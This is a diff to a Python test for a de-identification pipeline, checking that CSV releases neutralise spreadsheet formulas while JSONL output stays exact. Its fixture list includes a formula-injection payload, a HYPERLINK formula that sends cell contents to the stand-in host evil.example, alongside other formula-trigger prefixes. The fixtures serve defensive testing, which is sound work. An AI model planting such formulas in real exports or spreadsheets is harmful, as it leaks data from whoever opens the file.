@@ -11,6 +11,7 @@ import pytest
 from pipeline import csvsafe
 from pipeline.metrics.agreement import AgreementReport, Figure
 from pipeline.surrogates.batch import deidentify_file
+from pipeline.surrogates.fields import FieldPolicy
 
 FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "=2+5", "-2+3", "+1", "@SUM(A1)",
             "\tx", "\rx"]
@@ -52,14 +53,15 @@ def test_csv_release_neutralises_formulas_and_jsonl_stays_exact(tmp_path):
     """``deidentify formula.csv --out rel.csv`` (no spans): formulas quoted; JSONL unchanged."""
     src = tmp_path / "formula.csv"
     _corpus_csv(src)
-    deidentify_file(src, tmp_path / "rel.csv", key="test-key-123", mapping=False)
+    keep_ids = FieldPolicy(id="keep")  # the id itself is a formula here
+    deidentify_file(src, tmp_path / "rel.csv", key="test-key-123", mapping=False, fields=keep_ids)
     with open(tmp_path / "rel.csv", newline="", encoding="utf-8") as fh:
         rows = list(csv.DictReader(fh))
     assert [r["text"] for r in rows] == ["'" + t for t in FORMULAS[:3]] + ["plain text"]
     assert {r["dialogue_id"] for r in rows} == {"'=d1"} and {r["speaker"] for r in rows} == {"'-Tutor"}
     assert [r["seq"] for r in rows] == ["0", "1", "2", "3"]
 
-    deidentify_file(src, tmp_path / "rel.jsonl", key="test-key-123", mapping=False)
+    deidentify_file(src, tmp_path / "rel.jsonl", key="test-key-123", mapping=False, fields=keep_ids)
     obj = json.loads((tmp_path / "rel.jsonl").read_text(encoding="utf-8"))
     assert obj["id"] == "=d1" and [m["text"] for m in obj["messages"]] == FORMULAS[:3] + ["plain text"]
 
